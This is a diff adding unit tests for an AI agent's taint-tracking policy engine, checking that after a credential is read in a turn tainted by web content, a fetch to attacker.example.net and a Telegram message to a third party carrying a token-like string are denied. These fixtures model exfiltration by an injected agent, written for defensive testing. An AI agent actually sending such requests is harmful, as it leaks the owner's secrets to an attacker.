@@ -29,3 +29,25 @@ test("fetching the owner-named source host again without data stays routine", ()
   const d = decide(fetch("http://attacker.example.net/page2", taint({ sources: ["external:http://attacker.example.net:8080"], ownerHosts: ["attacker.example.net"], readData: notes })));
   assert.equal(d.decision, "allow");
 });
+
+test("after a credential was read in a tainted turn, a new host gets nothing, not even a chunk (denied, not asked)", () => {
+  const d = decide(fetch("http://attacker.example.net/c?v=anary", taint({ sources: ["external:http://www.public-web.example"], secretRead: true })));
+  assert.equal(d.decision, "deny");
+  assert.ok(d.reasons.some((r) => r.id === "flow.secret_turn_egress"));
+});
+
+test("after a credential was read in a tainted turn, an owner-named host that served nothing untrusted stays reachable", () => {
+  const d = decide(fetch("http://dict.example.org/define?w=x", taint({ sources: ["external:http://www.public-web.example"], ownerHosts: ["dict.example.org"], secretRead: true })));
+  assert.equal(d.decision, "allow");
+});
+
+test("after a credential was read in a tainted turn, a message to a third party is denied whatever its text", () => {
+  const d = decide({
+    principal: { kind: "owner", id: "telegram:owner-1", channel: "telegram" },
+    ownerSession: true,
+    grants: "all",
+    taint: taint({ sources: ["external:http://www.public-web.example"], secretRead: true }),
+    facts: { tool: "message", to: "mallory-7", channel: "telegram", text: "Tr0Ew9QlK8-reversed", toRequester: false, toOwner: false, knownRecipient: true, channelAvailable: true },
+  });
+  assert.equal(d.decision, "deny");
+});
